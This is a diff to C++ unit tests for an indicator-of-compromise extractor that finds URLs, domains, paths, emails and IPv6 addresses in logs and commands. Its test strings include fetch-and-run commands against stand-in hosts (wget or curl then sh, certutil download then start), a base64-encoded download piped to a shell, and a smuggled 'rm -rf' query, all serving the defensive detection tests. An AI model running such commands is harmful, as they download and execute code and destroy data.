@@ -241,6 +241,14 @@ TEST(Indicators, UrlsEndBeforeMarksThatShellsAndListsHave) {
   EXPECT_TRUE(is("http://e2.example/x.sh", "wget http://e2.example/x.sh;sh x.sh"));
   EXPECT_TRUE(is("http://e2.example/x.sh", "(wget http://e2.example/x.sh)&&sh x.sh"));
   EXPECT_TRUE(is("http://a.example/x;j=1,2|3", "http://a.example/x;j=1,2|3"));
+  EXPECT_TRUE(is("https://e2.example/l.php", "/?url=https%3A%2F%2Fe2.example%2Fl.php&data=05%7C01"));
+  EXPECT_TRUE(is("http://e4.example/x.zip", "https://www.g.example/url?q=http://e4.example/x.zip&sa=D"));
+  EXPECT_TRUE(is("http://x.example/p.php?a=3&b=2", "u=http%3A%2F%2Fx.example%2Fp.php%3Fa%3D3%26b%3D2&f=y"));
+  EXPECT_TRUE(is("http://e5.example/x.sh", "curl http://e5.example/x.sh& sleep 1"));
+  EXPECT_TRUE(is("http://e6.example/x.exe", "certutil -f http://e6.example/x.exe&start x.exe"));
+  EXPECT_FALSE(is("http://e7.example/?a=1", "http://e7.example/?a=1&b=2"));
+  EXPECT_TRUE(is("http://e7.example/x", "[http://e7.example/x](http://e8.example/y) **http://e9.example/z**"));
+  EXPECT_TRUE(is("http://e9.example/z", "[http://e7.example/x](http://e8.example/y) **http://e9.example/z**"));
   EXPECT_TRUE(is("http://n3.example/m", "GET /c=cd+/tmp;wget+http://n3.example/m;chmod+777+m"));
   EXPECT_TRUE(is("git+ssh://g.example/x", "git+ssh://g.example/x"));
   EXPECT_TRUE(is("http://e.example/a", R"(iwr \"http://e.example/a\")"));
@@ -260,6 +268,8 @@ TEST(Indicators, WhatStandsBesideEscapesAndMarksIsFound) {
   EXPECT_TRUE(is_found(Kind::domain, "evil.example", "1#011evil.example#012end"));
   EXPECT_TRUE(is_found(Kind::domain, "evil.example", "PACKET Q [0001] A (3)www(4)evil(7)example(0)"));
   EXPECT_TRUE(is_found(Kind::domain, "evil.example", "\u8fde\u63a5\u5230evil.example\u5931\u8d25"));
+  EXPECT_TRUE(
+      is_found(Kind::url, "http://evil.example/a?b", "echo Z2V0IGh0dHA6Ly9ldmlsLmV4YW1wbGUvYT9iIHwgc2g= | base64 -d"));
   EXPECT_TRUE(is_found(Kind::email, "q@evil.example", R"({"from":"\u003cq@evil.example\u003e"})"));
   EXPECT_TRUE(is_found(Kind::file_name, "evil6.exe", R"(run \"evil6.exe\" now)"));
   EXPECT_TRUE(is_found(Kind::path, "/opt/x/run.sh", "java#012/opt/x/run.sh#012 at y"));
@@ -274,6 +284,17 @@ TEST(Indicators, WhatCommandsNameBehindMarksAndOptions) {
   EXPECT_TRUE(is_found(Kind::path, "C:\\out", "7z x a.7z -oC:\\out"));
   EXPECT_TRUE(is_found(Kind::path, "/opt/interp", "#!/opt/interp -x"));
   EXPECT_FALSE(is_found(Kind::path, "/x", "bob@/x") || is_found(Kind::path, "/x", "a-o/x"));
+  const std::string query =
+      "/c?cmd=cd+/tmp;rm+-rf+f1.exe;sh+/opt/f4/b.sh&q=to+joe@f7.example+x&d=del+%5C%5Cf6srv%5Cs%5Cf6.exe";
+  EXPECT_TRUE(is_found(Kind::file_name, "f1.exe", query));
+  EXPECT_TRUE(is_found(Kind::path, "/opt/f4/b.sh", query));
+  EXPECT_TRUE(is_found(Kind::path, R"(\\f6srv\s\f6.exe)", query));
+  EXPECT_TRUE(is_found(Kind::email, "joe@f7.example", query));
+  for (const char* value :
+       {"[AF_INET6]2001:db8::7:1194", "[client 2001:db8::7:53211] x", "2001:db8::1-2001:db8::7 in use",
+        "2001:db8::7-2001:db8::9", "joe/2001:db8::7:443 MULTI", "2001:db8:0:0:0:0:0:7:53211"})
+    EXPECT_TRUE(is_found(Kind::ipv6, "2001:db8::7", value)) << value;
+  EXPECT_FALSE(is_found(Kind::ipv6, "2001:db8::7", "2001:db8::7:5"));
   EXPECT_TRUE(is_found(Kind::ipv6, "2001:db8::7", "src:2001:db8::7 dst:2001:db8::8"));
   EXPECT_FALSE(is_found(Kind::ipv6, "db8::7", "2001:db8::7"));
   for (const char* value : {"HKCU\\x deleted", "HKCU\\x|y", "HKCU\\x, HKLM\\z"})
@@ -584,6 +605,12 @@ TEST(Indicators, EqualTheNaiveSearchOnRandomValues) {
       "n",
       "t",
       "HKCU\\x deleted",
+      "Z2V0IGh0dHA6Ly9ldmlsLmV4YW1wbGUvYT9iIGEgeCBib2JAZXZpbC5leGFtcGxl",
+      ":1194",
+      "?a=",
+      "&b=",
+      "](",
+      "**",
       "get+",
       "x-"};
   const std::vector<std::string_view> fields{"f", "PipeName", "ServiceName", "User", "src_asn", "Computer"};
